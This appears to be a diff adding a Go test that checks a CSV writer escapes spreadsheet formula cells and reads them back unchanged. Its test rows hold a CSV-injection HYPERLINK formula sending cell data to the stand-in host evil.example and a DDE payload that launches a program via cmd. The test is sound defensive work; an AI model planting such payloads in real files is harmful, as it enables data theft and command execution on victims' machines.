@@ -7,6 +7,8 @@ import (
 	"hash/crc32"
 	"io"
 	"io/fs"
+	"os"
+	"reflect"
 	"strings"
 	"testing"
 	"testing/fstest"
@@ -94,4 +96,38 @@ func FuzzReadXLSX(f *testing.F) {
 	f.Fuzz(func(t *testing.T, raw []byte) {
 		readXLSX("data/a.xlsx", raw) // must return, not panic
 	})
+}
+
+func TestCSVFormulaCells(t *testing.T) {
+	dir := t.TempDir()
+	file := dir + "/units.csv"
+	rows := [][]string{{"名称", "备注"},
+		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+cmd|' /C calc'!A0"},
+		{"-2+3", "@SUM(1+1)"},
+		{"\t=1+1", "-5"},
+		{"+3.2", "'=已转义"},
+		{"-0x1p-2", "+Inf"},
+		{"苏州市总工会", ""}}
+	if err := WriteCSV(file, Sheet{Name: "名册", Rows: rows}); err != nil {
+		t.Fatal(err)
+	}
+	raw, _ := os.ReadFile(file)
+	want := "\ufeff名称,备注\r\n" +
+		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\",'+cmd|' /C calc'!A0\r\n" +
+		"'-2+3,'@SUM(1+1)\r\n" +
+		"'\t=1+1,-5\r\n" +
+		"+3.2,''=已转义\r\n" +
+		"'-0x1p-2,'+Inf\r\n" +
+		"苏州市总工会,\r\n"
+	if string(raw) != want {
+		t.Errorf("wrote\n%q\nwant\n%q", raw, want)
+	}
+	// Read back as gongkai reads data/: the cells as they were.
+	tb, err := readCSV("data/units.csv", "units", raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(tb.rows, rows) {
+		t.Errorf("read back\n%q\nwant\n%q", tb.rows, rows)
+	}
 }
